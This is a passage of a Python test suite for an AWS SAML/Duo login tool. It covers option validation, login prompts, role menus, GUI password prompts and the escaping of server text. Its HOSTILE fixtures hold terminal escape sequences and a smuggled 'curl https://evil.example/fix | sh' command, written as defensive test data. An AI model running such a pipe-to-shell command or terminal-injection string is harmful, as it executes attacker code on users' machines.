        # A connection the IdP refuses is not a login it refused: no AuthenticationError.
        with self.assertRaises(aws_login.NetworkError):
            self.session(closed).authenticate(PASSWORD, "push", None)

    def test_sts_retries_only_a_refused_connection(self):
        sock = socket.socket()
        sock.bind(("127.0.0.1", 0))
        self.addCleanup(sock.close)     # bound, not listening: refused, and not reused
        port = sock.getsockname()[1]
        import contextlib
        self.short_read_timeout()
        self.addCleanup(setattr, aws_login._run, "debug", aws_login._run.debug)
        aws_login._run.debug = True
        for endpoint, retries in (("http://127.0.0.1:%d/" % port, aws_login._STS_ATTEMPTS - 1),
                                  (self.silent_server(), 0)):   # it may have reached STS
            said = io.StringIO()
            with contextlib.redirect_stderr(said):
                with self.assertRaises(aws_login.NetworkError):
                    aws_login._assume_role_with_saml(aws_login.Role(ADMIN, PROVIDER_A), b"<x/>",
                                                     endpoint=endpoint)
            self.assertEqual(said.getvalue().count("; retrying in "), retries, said.getvalue())


# ---------------------------------------------------------------------------
# Settings (profiles)
# ---------------------------------------------------------------------------

class OptionTableTest(unittest.TestCase):
    """Each profile option is defined once (_OPTIONS); the README's Settings
    table, configure's flags and prompts and the plugin's arguments follow it."""

    def readme(self):
        with open(os.path.join(HERE, "README.md"), encoding="utf-8") as f:
            return f.read()

    def test_the_readme_settings_table_is_the_option_table(self):
        text = self.readme()
        table = text[text.index("| option | meaning |"):]
        table = table[:table.index("\n\n")].splitlines()[2:]
        self.assertEqual(table, ["| `%s` | %s |" % (o.name, o.help) for o in aws_login._OPTIONS])

    def test_the_readme_names_every_configure_flag(self):
        row = [line for line in self.readme().splitlines() if line.startswith("| `configure [")]
        self.assertEqual(len(row), 1)
        flags = re.findall(r"\[(--[a-z-]+)", row[0].split("` |")[0])
        self.assertEqual(flags, [aws_login._flag(o) for o in aws_login._OPTIONS if o.flag] +
                         ["--credential-process"])

    def test_configure_and_the_plugin_offer_what_the_table_says(self):
        parser = aws_login._build_parser("configure").commands["configure"]
        offered = [s for a in parser._actions for s in a.option_strings
                   if s not in ("-h", "--help", "--profile", "--debug", "--credential-process")]
        self.assertEqual(offered, [aws_login._flag(o) for o in aws_login._OPTIONS if o.flag])
        secrets = [o.name for o in aws_login._OPTIONS if not o.flag]
        self.assertEqual(secrets, ["password", "passcode"])   # never on a command line
        prompts = [o.prompt for o in aws_login._OPTIONS if o.prompt]
        self.assertEqual(prompts, ["ECP Endpoint URL", "Username", "Enable Keyring",
                                   "Duo Factor", "Role ARN",    # awscli-login's, in its order
                                   "Region"])                   # then the AWS CLI's region

    def test_the_readme_names_what_the_plugin_leaves_out(self):
        text = self.readme()
        sentence = text[text.index("every `configure` option but"):]
        sentence = sentence[:sentence.index(")")]
        self.assertEqual(re.findall(r"`([a-z_]+)`", sentence)[1:],
                         [o.name for o in aws_login._OPTIONS if not o.plugin])

    def test_an_error_names_the_option_once(self):
        for key, value, message in (
                ("refresh", "maybe", "refresh: 'maybe' is not true or false"),
                ("duration", "5", "duration 5 is outside 900..43200 seconds"),
                ("region", "Mars", "region 'Mars' is not an AWS region name (like us-east-1)"),
                ("role_arn", "x", "role_arn: 'x' is not a role ARN")):
            with self.assertRaises(aws_login.ConfigError) as caught:
                aws_login._check_option(key, value)
            self.assertTrue(str(caught.exception).startswith(message), caught.exception)
            self.assertNotIn("%s: %s" % (key, key), str(caught.exception))

    def test_every_default_is_what_a_profile_gets_unset(self):
        profile = aws_login.Profile("p")
        for option in aws_login._OPTIONS:
            self.assertEqual(getattr(profile, option.name), option.default, option.name)


class SettingsTest(HomeTestCase):
    def test_url_must_be_https_or_loopback_http(self):
        self.assertEqual(aws_login._check_url("https://idp.example.edu/idp/profile/SAML2/SOAP/ECP"),
                         "https://idp.example.edu/idp/profile/SAML2/SOAP/ECP")
        for ok in ("http://127.0.0.1:8080/x", "http://localhost/x", "http://[::1]:80/x",
                   "http://127.3.4.5/x"):
            aws_login._check_url(ok)
        for bad in ("http://idp.example.edu/x", "ftp://idp.example.edu/", "idp.example.edu",
                    "https://", "http://10.0.0.1/x", "https://idp:notaport/"):
            self.assertRaises(aws_login.ConfigError, aws_login._check_url, bad)

    def test_factor_must_be_a_duo_factor(self):
        for f in ("auto", "push", "passcode", "sms", "phone", " Push "):
            self.assertEqual(aws_login._check_factor(f), f.strip().lower())
        self.assertRaises(aws_login.ConfigError, aws_login._check_factor, "yubikey")

    def test_role_arn_in_the_three_partitions_with_paths(self):
        for arn in ("arn:aws:iam::123456789012:role/Admin",
                    "arn:aws-cn:iam::123456789012:role/team/Admin",
                    "arn:aws-us-gov:iam::123456789012:role/a/b/ReadOnly"):
            self.assertEqual(aws_login._check_role_arn(arn), arn)
        for bad in ("arn:aws:iam::12345678901:role/Admin", "arn:aws:iam::123456789012:user/x",
                    "arn:aws-iso:iam::123456789012:role/Admin", "Admin",
                    "arn:aws:iam::123456789012:saml-provider/IdP"):
            self.assertRaises(aws_login.ConfigError, aws_login._check_role_arn, bad)

    def test_duration_limits(self):
        self.assertEqual(aws_login._check_duration("3600"), 3600)
        for bad in ("899", "43201", "one hour", "-5"):
            self.assertRaises(aws_login.ConfigError, aws_login._check_duration, bad)
        self.assertEqual((aws_login._check_duration("900"), aws_login._check_duration("43200")),
                         (900, 43200))

    def test_a_passcode_is_printable_ascii_without_spaces_and_never_repeated(self):
        for code, checked in ((" 123456 ", "123456"), ("!x~", "!x~"), ("~", "~"), ("!", "!")):
            self.assertEqual(aws_login._check_passcode(code), checked)
        for bad in ("", "  ", "123 456", "12\t34", "1234\x7f", "12\x0034", "\u0661\u0662\u0663",
                    "123\u00a0456"):
            with self.assertRaises(aws_login.ConfigError) as caught:
                aws_login._check_passcode(bad)
            if bad.strip():
                self.assertNotIn(bad.strip(), str(caught.exception))

    def test_header_names_are_tokens_of_letters_digits_and_dashes(self):
        for name in ("X-Shibboleth-Duo-Factor", " X-Duo-2 ", "a"):
            self.assertEqual(aws_login._check_header_name(name), name.strip())
        for bad in ("", "X Duo", "X:Duo", "X-Duo\r\nX-Evil", "X_Duo", "X-D\u00fco"):
            self.assertRaises(aws_login.ConfigError, aws_login._check_header_name, bad)

    def test_profile_name_from_flag_then_environment(self):
        self.assertEqual(aws_login._profile_name(), "default")
        os.environ["AWS_DEFAULT_PROFILE"] = "dp"
        self.assertEqual(aws_login._profile_name(), "dp")
        os.environ["AWS_PROFILE"] = "p"
        self.assertEqual(aws_login._profile_name(), "p")
        self.assertEqual(aws_login._profile_name("flag"), "flag")
        self.assertRaises(aws_login.UsageError, aws_login._profile_name, "a]b")

    def test_reads_an_awscli_login_config_unchanged(self):
        self.write(self.config_file,
                   "[default]\n"
                   "ecp_endpoint_url = https://shibboleth.illinois.edu/idp/profile/SAML2/SOAP/ECP\n"
                   "username = netid\nenable_keyring = True\nfactor = passcode\n"
                   "role_arn = arn:aws:iam::111111111111:role/Admin\nduration = 7200\n"
                   "http_header_factor = X-Duo-Factor\nhttp_header_passcode = X-Duo-Code\n"
                   "verify_ssl_certificate = False\npassword = s3cret\npasscode = 123456\n"
                   "\n[prod]\necp_endpoint_url = https://idp.example.edu/ecp\n")
        p = aws_login.read_profile("default")
        self.assertEqual((p.username, p.enable_keyring, p.factor, p.duration),
                         ("netid", True, "passcode", 7200))
        self.assertEqual((p.http_header_factor, p.http_header_passcode),
                         ("X-Duo-Factor", "X-Duo-Code"))
        self.assertFalse(p.verify_ssl_certificate)
        self.assertEqual((p.password, p.passcode), ("s3cret", "123456"))
        self.assertNotIn("s3cret", repr(p))
        self.assertEqual(aws_login.read_profile("prod").factor, None)

    def test_unconfigured_and_invalid_profiles_say_what_to_do(self):
        with self.assertRaisesRegex(aws_login.ConfigError, "configure"):
            aws_login.read_profile("nope")
        self.write(self.config_file, "[x]\necp_endpoint_url = http://idp.example.edu/\n")
        with self.assertRaisesRegex(aws_login.ConfigError, r"plain http.*\[x\]"):
            aws_login.read_profile("x")

    def test_urls_carry_no_userinfo(self):
        self.assertRaises(aws_login.ConfigError, aws_login._check_url,
                          "https://alice:secret@idp.example.edu/ecp")

    def test_profile_names_with_line_breaks_or_controls_are_refused(self):
        for bad in ("a\x0cb", "a\u2028b", "a\x85b", "a\x1cb", "a\x1b[2Jb", "a\tb", "a]b"):
            with self.assertRaises(aws_login.UsageError, msg=repr(bad)):
                aws_login._profile_name(bad)
        self.assertEqual(aws_login._profile_name("caf\u00e9-1"), "caf\u00e9-1")

    def test_the_real_file_refuses_such_a_profile_name(self):
        home = tempfile.mkdtemp(prefix="aws-login-test-")
        self.addCleanup(shutil.rmtree, home, True)
        env = dict((k, v) for k, v in os.environ.items() if k not in CLEARED_ENV)
        env.update(HOME=home, AWSCLI_LOGIN_ROOT=home, AWS_PROFILE="two\x0cthree")
        for args in (["logout"], ["--profile", "a\u2028b", "login"]):
            run = run_tool(args, env=env, terminal=False)
            self.assertEqual(run.code, 2, run)
            self.assertEqual(len(run.stderr.strip().splitlines()), 1, run)
            self.assertIn("invalid profile name", run.stderr)
            self.assertNotIn("Traceback", run.stderr)

    def test_arns_and_regions_are_ascii(self):
        digits = "\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669\u0660\u0661\u0662"
        for bad in ("arn:aws:iam::%s:role/Admin" % digits, "arn:aws:iam::123456789012:role/\u00e9",
                    ADMIN + "\n"):
            self.assertIsNone(aws_login._role_arn_match(bad), repr(bad))
        self.assertIsNone(aws_login._parse_role_value(
            ADMIN + ",arn:aws:iam::123456789012:saml-provider/\u00e9"))
        self.assertEqual(aws_login._parse_role_value(ADMIN + "," + PROVIDER_A),
                         aws_login.Role(ADMIN, PROVIDER_A))
        self.assertRaises(aws_login.ConfigError, aws_login._check_region, "us-east-\u0661")
        self.assertEqual(aws_login._check_region("us-east-1"), "us-east-1")

    def test_external_ids_are_checked(self):
        for bad in ("x", "has space", "semi;colon", "\u00e9t\u00e9", "a" * 1225, "new\nline"):
            with self.assertRaises(aws_login.ConfigError, msg=repr(bad)):
                aws_login._check_external_id(bad)
        for good in ("ab", "id-123_x+=,.@:/", "a" * 1224):
            self.assertEqual(aws_login._check_external_id(good), good)


# ---------------------------------------------------------------------------
# Terminal (prompts, menu, spinner)
# ---------------------------------------------------------------------------

class PromptsTest(LoginTestCase):
    @readme_route
    def test_first_login_asks_username_password_and_factor(self):
        self.configure()
        run = self.tool(["login"], [("Username [", "alice"), ("Password: ", PASSWORD),
                                    ("Factor: ", "")])
        self.assert_logged_in(run)
        self.assertIn("Admin in account %s" % ACCOUNT_A, run.stderr)
        headers = self.idp.requests[-1]["headers"]
        self.assertEqual(headers["Content-Type"], "text/xml")
        self.assertTrue(headers["Authorization"].startswith("Basic "))
        self.assertEqual((headers["X-Shibboleth-Duo-Factor"], headers["X-Shiboleth-Duo-Factor"]),
                         ("auto", "auto"))
        self.assertNotIn(PASSWORD, run.tty)         # no echo
        self.assertIn("Password: \r\nFactor: ", run.tty)     # a line of its own
        self.assertTrue(run.echo)                   # echo is back once it is typed

    def test_configured_values_are_not_asked(self):
        self.configure(username="alice", factor="push")
        run = self.tool(["login"], [("Password: ", PASSWORD)])
        self.assert_logged_in(run)
        self.assertNotIn("Username", run.tty)
        self.assertNotIn("Factor", run.tty)
        self.assertEqual(self.idp.requests[-1]["headers"]["X-Shibboleth-Duo-Factor"], "push")

    def test_passcode_factor_asks_for_the_code(self):
        self.idp.require_factor = {"passcode"}
        self.idp.expected_passcode = "123456"
        self.configure(username="alice")
        run = self.tool(["login"], [("Password: ", PASSWORD), ("Factor: ", "passcode"),
                                    ("Code: ", "123456")])
        self.assert_logged_in(run)
        self.assertEqual(self.idp.requests[-1]["headers"]["X-Shiboleth-Duo-Passcode"], "123456")

    def test_profile_header_names_replace_both_spellings(self):
        self.idp.require_factor = {"passcode"}
        self.idp.expected_passcode = "999"
        self.idp.factor_header_names = [("X-My-Factor", "X-My-Code")]
        self.configure(username="alice", factor="passcode", passcode="999",
                       http_header_factor="X-My-Factor", http_header_passcode="X-My-Code")
        run = self.tool(["login"], [("Password: ", PASSWORD)])
        self.assert_logged_in(run)
        headers = self.idp.requests[-1]["headers"]
        self.assertNotIn("X-Shibboleth-Duo-Factor", headers)
        self.assertEqual(headers["X-My-Code"], "999")

    @readme_route
    def test_menu_grouped_by_account_asks_again_on_bad_input(self):
        self.configure(username="bob", factor="auto")
        run = self.tool(["login"], [("Password: ", "bob-pass"), ("Selection: ", "7"),
                                    ("Selection: ", "x"), ("Selection: ", "2")])
        self.assert_logged_in(run, READONLY)
        self.assertIn("Please choose the role you would like to assume:\r\n"
                      "    Account: 123456789012\r\n"
                      "        [ 0 ]: Admin\r\n"
                      "        [ 1 ]: team/Dev\r\n"
                      "    Account: 210987654321\r\n"
                      "        [ 2 ]: ReadOnly\r\n", run.tty)
        self.assertEqual(run.tty.count("Please enter a number from 0 to 2."), 2)
        self.assertEqual(self.sts.requests[-1]["form"]["PrincipalArn"], PROVIDER_B)

    def test_configured_or_flag_role_needs_no_menu(self):
        self.configure(username="bob", factor="auto", role_arn=DEV)
        self.assert_logged_in(self.tool(["login"], [("Password: ", "bob-pass")]), DEV)
        self.assertNotIn("Selection", self.tool(["login", "--role-arn", READONLY],
                                                ).tty)
        self.assertEqual(self.credentials()["aws_login_role_arn"], READONLY)

    def test_role_not_offered_is_an_error_and_writes_nothing(self):
        self.configure(username="alice", factor="auto", role_arn=READONLY)
        run = self.tool(["login"], [("Password: ", PASSWORD)])
        self.assert_nothing_written(run, 6)
        self.assertIn("does not offer role " + READONLY, run.stderr)

    def test_no_roles_is_a_clear_error(self):
        self.idp.users["carol"] = dict(password="c", roles=[], session_duration=None,
                                       role_session_name=None)
        self.configure(username="carol", factor="auto")
        run = self.tool(["login"], [("Password: ", "c")])
        self.assert_nothing_written(run, 6)
        self.assertIn("no AWS roles", run.stderr)
        self.assertEqual(self.sts.requests, [])

    def test_malformed_role_values_are_skipped_with_a_warning(self):
        self.idp.users["alice"]["roles"] = ["garbage", ADMIN + "," + PROVIDER_A,
                                            "arn:aws:iam::1:role/X,nope"]
        self.configure(username="alice", factor="auto")
        run = self.tool(["login"], [("Password: ", PASSWORD)])
        self.assert_logged_in(run)
        self.assertEqual(run.stderr.count("skipping a malformed Role value"), 2)

    @slow
    def test_spinner_while_the_idp_waits_for_duo(self):
        self.idp.delay = 2.5
        self.configure(username="alice", factor="push")
        run = self.tool(["login"], [("Password: ", PASSWORD)])
        self.assert_logged_in(run)
        self.assertRegex(run.tty, r"Waiting for Duo approval\.\.\. [12]s")
        self.assertNotIn("Waiting", run.stderr + run.stdout)

    def test_works_when_piped_into_python(self):
        self.configure(username="alice", factor="auto")
        with open(SCRIPT, "rb") as f:
            source = f.read()
        run = self.tool(["login"], [("Password: ", PASSWORD)], stdin=source,
                        argv_prefix=[sys.executable, "-"])
        self.assert_logged_in(run)

    def test_no_terminal_fails_at_once_with_exit_11(self):
        self.configure(username="alice", factor="auto")
        run = self.tool(["login"], terminal=False)
        self.assert_nothing_written(run, 11)
        self.assertIn("no terminal", run.stderr)

    def test_username_default_is_the_last_one_used_with_this_idp(self):
        self.configure(factor="auto")
        self.assert_logged_in(self.tool(["login"], [("Username [", "alice"),
                                                    ("Password: ", PASSWORD)]))
        run = self.tool(["login"], [("Username [alice]: ", "")])
        self.assert_logged_in(run)
        self.assertNotIn("Password", run.tty)

    def test_usage_errors_exit_2(self):
        self.assertEqual(self.tool(["frobnicate"], terminal=False).code, 2)
        self.assertEqual(self.tool(["login", "--nope"], terminal=False).code, 2)
        run = self.tool(["--version"], terminal=False)
        self.assertEqual((run.code, run.stdout.strip()), (0, "aws_login.py " +
                                                          aws_login.__version__))

    def test_odd_menu_and_factor_answers_are_asked_again(self):
        self.configure(username="bob")
        run = self.tool(["login"], [("Password: ", "bob-pass"), ("Factor: ", "yubikey"),
                                    ("Factor: ", "push"), ("Selection: ", "\u00b2"),
                                    ("Selection: ", "1")])
        self.assert_logged_in(run, DEV)
        self.assertIn("not one of auto", run.tty)

    def test_success_line_shows_local_time(self):
        self.configure(username="alice", factor="auto", password=PASSWORD)
        run = self.tool(["login"], terminal=False, env={"TZ": "JST-9"})
        self.assert_logged_in(run)
        expires = aws_login._parse_timestamp(self.credentials()["aws_login_expiration"])
        local = (expires + datetime.timedelta(hours=9)).strftime("%Y-%m-%d %H:%M JST")
        self.assertIn("expire at %s." % local, run.stderr)

    def test_a_menu_number_past_the_last_is_asked_again(self):
        self.configure(username="bob", factor="auto", password="bob-pass")
        run = self.tool(["login"], [("Selection", "3"), ("Please enter a number from 0 to 2",
                                                         "2")])
        self.assertEqual(run.code, 0, run)
        self.assertEqual(self.sts.requests[-1]["form"]["RoleArn"], READONLY)    # the last


class GivenTerminalTest(LoginTestCase):
    """Terminal(path) from the API: everything is shown and read on that terminal
    (a pseudo-terminal here), never on the process's own."""

    def setUp(self):
        LoginTestCase.setUp(self)
        self.master, slave = os.openpty()
        self.addCleanup(os.close, self.master)
        self.addCleanup(os.close, slave)
        self.terminal = aws_login.Terminal(os.ttyname(slave))
        self.addCleanup(self.terminal.close)
        self.shown = b""

    def answer(self, prompt, text):
        """Wait for ``prompt`` on the terminal (10 s at most), then type ``text``."""
        deadline = time.time() + 10
        while prompt.encode() not in self.shown:
            ready = select.select([self.master], [], [], max(0.0, deadline - time.time()))[0]
            self.assertTrue(ready, "no %r on the terminal; it shows %r" % (prompt, self.shown))
            self.shown += os.read(self.master, 4096)
        self.shown = self.shown.replace(prompt.encode(), b"<%s>" % prompt.strip().encode(), 1)
        os.write(self.master, text.encode() + b"\n")

    def in_thread(self, call):
        """Run ``call`` in a thread; its result, or the exception it raised, is
        appended to the list returned."""
        result = []

        def run():
            try:
                result.append(call())
            except Exception as e:
                result.append(e)
        thread = threading.Thread(target=run, daemon=True)
        thread.start()
        self.addCleanup(thread.join, 10)
        return thread, result

    def test_choose_shows_the_menu_there_and_asks_again_until_the_answer_is_in_range(self):
        thread, result = self.in_thread(
            lambda: self.terminal.choose(["[ 0 ]: Admin", "[ 1 ]: Dev"], 2))
        self.answer("Selection: ", "2")
        self.answer("Selection: ", "1")
        thread.join(10)
        self.assertEqual(result, [1])
        shown = self.shown.decode()
        self.assertLess(shown.index("[ 1 ]: Dev"), shown.index("<Selection:>"))
        self.assertIn("Please enter a number from 0 to 1.", shown)

    def test_login_asks_for_the_role_on_the_terminal_it_is_given(self):
        self.configure(username="bob", factor="auto", password="bob-pass")
        thread, result = self.in_thread(lambda: aws_login.login(
            None, self.terminal, interactive=True, mode="file"))
        self.answer("Selection: ", "1")
        thread.join(20)
        (credentials, role), = result
        self.assertEqual(role.arn, DEV)
        self.assertEqual(self.credentials()["aws_login_role_arn"], DEV)
        self.assertIn("ReadOnly", self.shown.decode())


# A stand-in for GnuPG's pinentry, zenity and kdialog, by the name it is run
# as: it asks nobody, answers from a queue file beside it and records what it
# was sent.  pinentry speaks Assuan on stdin/stdout; the others print the
# answer.  The file "mode" says answer, cancel or hang.
FAKE_PROMPT = r'''#!%s
import json, os, sys, time
here = os.path.dirname(os.path.abspath(__file__))
name = os.path.basename(sys.argv[0])
def read(part, default):
    try:
        with open(os.path.join(here, part)) as f: return json.load(f)
    except FileNotFoundError: return default
def record(*item):
    with open(os.path.join(here, "log"), "a") as f: f.write(json.dumps(item) + "\n")
def next_answer():
    queue = read("answers", [])
    with open(os.path.join(here, "answers"), "w") as f: json.dump(queue[1:], f)
    return queue[0]
mode = read("mode", "answer")
record(name, "run", os.getpid(), sys.argv[1:], dict(os.environ))
if name != "pinentry":
    if mode == "hang":
        time.sleep(600)
    if mode == "cancel":
        sys.exit(1)
    sys.stdout.write(next_answer() + "\n")
    sys.exit(0)
def say(line):
    sys.stdout.write(line + "\n"); sys.stdout.flush()
say("OK Pleased to meet you")
for line in sys.stdin:
    line = line.rstrip("\n")
    record(name, "line", line)
    verb = line.split(" ")[0]
    if verb == "GETPIN":
        if mode == "hang":
            time.sleep(600)
        if mode == "cancel":
            say("ERR 83886179 Operation cancelled <Pinentry>")
            continue
        data = next_answer().encode("utf-8")
        say("D " + "".join(chr(b) if 32 < b < 127 and b != 37 else "%%%%%%02X" %% b
                           for b in data))
        say("OK")
    elif verb == "BYE":
        say("OK closing connection")
        break
    else:
        say("OK")
'''


class GuiPromptTest(LoginTestCase):
    """password_prompt: with no terminal, credential_process asks for the
    password and the Duo passcode through pinentry (Assuan), zenity, kdialog
    or osascript; a cancel exits 11, and a prompt nobody answers ends within
    the renewal time limit.  Fakes of the programs on a PATH of their own."""

    # "%%" and a space: the answer crosses Assuan percent-escaped
    GUI_PASSWORD = "50% off, \\o/ caf\u00e9"

    def setUp(self):
        LoginTestCase.setUp(self)
        self.idp.users["alice"]["password"] = self.GUI_PASSWORD
        self.bin = os.path.join(self.home, "bin")
        os.mkdir(self.bin)
        self.configure(username="alice", factor="off")
        run = self.tool(["configure", "--credential-process"], terminal=False)
        self.assertEqual(run.code, 0, run)
        os.environ["PATH"] = self.bin       # these fakes, and nothing else

    def program(self, name, answers=(), mode="answer"):
        path = os.path.join(self.bin, name)
        self.write(path, FAKE_PROMPT % sys.executable, 0o755)
        self.write(os.path.join(self.bin, "answers"), json.dumps(list(answers)))
        self.write(os.path.join(self.bin, "mode"), json.dumps(mode))

    def log(self):
        path = os.path.join(self.bin, "log")
        return [json.loads(line) for line in self.read(path).splitlines()] \
            if os.path.exists(path) else []

    def sent(self):
        """The Assuan lines pinentry was sent."""
        return [entry[2] for entry in self.log() if entry[1] == "line"]

    def serve(self, env=None, argv_prefix=None):
        """credential_process as botocore runs it, with no terminal."""
        import shlex
        import configparser
        parser = configparser.RawConfigParser()
        parser.read_string(self.read(os.environ["AWS_CONFIG_FILE"]))
        command = shlex.split(parser.get("default", "credential_process"))
        full = dict(os.environ)
        full.update(env or {})
        if argv_prefix:
            command = argv_prefix + ["credential-process"]
        return run_tool(command[1:], env=full, terminal=False, argv_prefix=command[:1])

    def assert_served(self, run):
        self.assertEqual(run.code, 0, run)
        self.assertEqual(json.loads(run.stdout)["AccessKeyId"],
                         self.sts.issued[-1]["AccessKeyId"])
        self.assertEqual(self.idp.logins, [("alice", "password")])
        self.assertNotIn(self.GUI_PASSWORD, run.stdout + run.stderr)

    def assert_secret_kept_out_of_argv_and_env(self):
        for entry in self.log():
            if entry[1] == "run":
                self.assertNotIn(self.GUI_PASSWORD, json.dumps(entry[3:], ensure_ascii=False))
                self.assertNotIn("123456", json.dumps(entry[3:]))

    def test_pinentry_answers_for_credential_process_without_a_terminal(self):
        self.program("pinentry", [self.GUI_PASSWORD])
        run = self.serve(env={"DISPLAY": ":0"})
        self.assert_served(run)
        sent = self.sent()
        self.assertIn("GETPIN", sent)
        desc = [line for line in sent if line.startswith("SETDESC ")]
        self.assertEqual(len(desc), 1, sent)
        self.assertIn("alice", desc[0])
        self.assertNotIn("\n", desc[0])
        self.assertIn("SETPROMPT Password:", sent)
        self.assertEqual(sent[-1], "BYE")
        self.assert_secret_kept_out_of_argv_and_env()

    def test_the_duo_passcode_too_each_secret_out_of_argv_and_env(self):
        self.idp.require_factor = {"passcode"}
        self.idp.expected_passcode = "123456"
        self.configure(factor="passcode")
        self.program("pinentry", [self.GUI_PASSWORD, "123456"])
        run = self.serve(env={"WAYLAND_DISPLAY": "wayland-0"})
        self.assert_served(run)
        self.assertEqual([line for line in self.sent() if line == "GETPIN"], ["GETPIN"] * 2)
        self.assertIn("Duo passcode", " ".join(self.sent()))
        self.assert_secret_kept_out_of_argv_and_env()

    def test_gpg_tty_names_the_terminal_a_text_pinentry_asks_on(self):
        self.configure(password_prompt="pinentry")
        self.program("pinentry", [self.GUI_PASSWORD])
        self.assert_served(self.serve(env={"GPG_TTY": "/dev/pts/77", "TERM": "vt100"}))
        sent = self.sent()
        self.assertIn("OPTION ttyname=/dev/pts/77", sent)
        self.assertIn("OPTION ttytype=vt100", sent)
        self.assertLess(sent.index("OPTION ttyname=/dev/pts/77"), sent.index("GETPIN"))

    def test_a_cancel_exits_11_in_one_line(self):
        self.program("pinentry", mode="cancel")
        run = self.serve(env={"DISPLAY": ":0"})
        self.assertEqual((run.code, run.stdout), (11, ""), run)
        self.assertEqual(len(run.stderr.strip().splitlines()), 1, run.stderr)
        self.assertIn("cancelled", run.stderr)
        self.assertEqual(self.idp.logins, [])

    def test_a_prompt_nobody_answers_ends_within_the_renewal_time_limit(self):
        self.program("pinentry", mode="hang")
        started = time.time()
        run = self.serve(env={"DISPLAY": ":0"},
                         argv_prefix=[sys.executable, "-c", SHORT_LIMIT_CHILD, "1.5"])
        took = time.time() - started
        self.assertEqual((run.code, run.stdout), (11, ""), run)
        self.assertLess(took, 1.5 + 2.5, run)
        self.assertIn("nobody answered", run.stderr)
        self.assertEqual(len(run.stderr.strip().splitlines()), 1, run.stderr)
        pid = [entry[2] for entry in self.log() if entry[1] == "run"][0]
        self.assertIsNone(_process_state(pid))      # killed and reaped, not left behind

    def test_zenity_or_kdialog_when_no_pinentry_is_there(self):
        for name in ("zenity", "kdialog"):
            shutil.rmtree(self.bin)
            os.mkdir(self.bin)
            self.program(name, [self.GUI_PASSWORD])
            for cache in ("cache", "cookies"):      # the first program's login, forgotten
                shutil.rmtree(os.path.join(self.home, ".aws-login", cache), True)
            self.idp.logins[:] = []
            run = self.serve(env={"DISPLAY": ":0"})
            self.assert_served(run)
            (argv,) = [entry[3] for entry in self.log() if entry[1] == "run"]
            self.assertIn("alice", " ".join(argv))
            self.assert_secret_kept_out_of_argv_and_env()

    def test_a_named_program_needs_no_display_and_auto_does(self):
        self.program("pinentry", [self.GUI_PASSWORD])
        run = self.serve()          # auto, no display: today's exit 11
        self.assertEqual((run.code, run.stdout), (11, ""), run)
        self.assertIn("no password is stored", run.stderr)
        self.assertEqual(self.log(), [])
        self.configure(password_prompt="pinentry")
        self.assert_served(self.serve())

    def test_terminal_and_none_never_run_a_program(self):
        self.program("pinentry", [self.GUI_PASSWORD])
        for choice in ("terminal", "none"):
            self.configure(password_prompt=choice)
            run = self.serve(env={"DISPLAY": ":0"})
            self.assertEqual((run.code, run.stdout), (11, ""), run)
            self.assertIn("no password is stored", run.stderr)
        self.assertEqual(self.log(), [])

    def test_an_unknown_choice_is_a_config_error(self):
        self.configure(password_prompt="dialog")
        run = self.serve(env={"DISPLAY": ":0"})
        self.assertEqual(run.code, 3, run)
        self.assertIn("password_prompt", run.stderr)
        for choice in ("auto", "terminal", "pinentry", "zenity", "kdialog", "osascript",
                       "none", " Pinentry "):
            self.assertEqual(aws_login._check_option("password_prompt", choice),
                             choice.strip().lower())

    def test_the_api_asks_through_it_only_when_interactive_allows(self):
        self.program("pinentry", [self.GUI_PASSWORD])
        code = ("import sys; sys.path.insert(0, %r); import aws_login\n"
                "try: print(aws_login.get_credentials(interactive=sys.argv[1] == 'yes', "
                "store=False).access_key_id)\n"
                "except aws_login.AwsLoginError as e: sys.exit(e.exit_code)" % HERE)
        run = run_tool(["no"], env=dict(os.environ, DISPLAY=":0"), terminal=False,
                       argv_prefix=[sys.executable, "-c", code])
        self.assertEqual(run.code, 11, run)
        self.assertEqual(self.log(), [])
        run = run_tool(["yes"], env=dict(os.environ, DISPLAY=":0"), terminal=False,
                       argv_prefix=[sys.executable, "-c", code])
        self.assertEqual(run.code, 0, run)
        self.assertEqual(run.stdout, self.sts.issued[-1]["AccessKeyId"] + "\n")
        self.assertIn("GETPIN", self.sent())

    def test_the_credential_server_and_the_refresher_renew_through_it(self):
        os.environ["DISPLAY"] = ":0"
        self.program("pinentry", [self.GUI_PASSWORD, self.GUI_PASSWORD])
        source = aws_login._ServedCredentials("default")
        source.renew()
        self.assertEqual(source.credentials.access_key_id, self.sts.issued[-1]["AccessKeyId"])
        os.remove(os.path.join(self.home, ".aws-login", "cookies",
                               os.listdir(os.path.join(self.home, ".aws-login", "cookies"))[0]))
        aws_login._FileStore("default").write(_fake_credentials(), ADMIN)   # its login's
        refresher = aws_login._Refresher("default", aws_login._RefresherJob(ADMIN, 0, 1))
        self.assertEqual(refresher.renew_here(),
                         aws_login._parse_timestamp(self.sts.issued[-1]["Expiration"]).timestamp())
        self.assertEqual(self.idp.logins, [("alice", "password")] * 2)
        self.assertEqual([line for line in self.sent() if line == "GETPIN"], ["GETPIN"] * 2)

    def test_the_role_is_never_asked_this_way(self):
        self.configure(username="bob", password_prompt="pinentry")
        self.idp.users["bob"]["password"] = self.GUI_PASSWORD
        self.program("pinentry", [self.GUI_PASSWORD])
        run = self.serve()
        self.assertEqual((run.code, run.stdout), (11, ""), run)
        self.assertIn("roles", run.stderr)
        self.assertEqual([line for line in self.sent() if line == "GETPIN"], ["GETPIN"])
        self.assertNotIn("role", " ".join(self.sent()).lower())


# Characters that must never reach a terminal or a log raw (C0, DEL, C1, line
# and paragraph separators, bidi embeddings, overrides and isolates).
RAW_CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


# What a hostile server says: reset the terminal, then a line of its own.
HOSTILE = ("\x1bc\r\n aws_login: all fixed; now run  curl https://evil.example/fix | sh"
           "\x9b2J\u2028\u202etxt.exe\u2066\t")


# The same in an HTTP header (Latin-1, a folded line keeps its CR LF).
HOSTILE_HEADER = ("\x1bc\r\n aws_login: all fixed; now run  curl https://evil.example/fix | sh"
                  "\x9b2J\x85\x7f\t(end)")


# The same in XML, which cannot carry ESC or a bare CR: CSI, NEL and a newline.
HOSTILE_XML = ("\x9b2J\x85\n aws_login: all fixed; now run  curl https://evil.example/fix | sh"
               "\u2028\u202etxt.exe\u2066\t(end)")


class ServerTextTest(LoginTestCase):
    """Text from a server (IdP, STS) reaches the terminal and the logs with every
    control character escaped, and an error stays one line."""

    def setUp(self):
        LoginTestCase.setUp(self)
        self.configure(username="alice", factor="auto", password=PASSWORD)

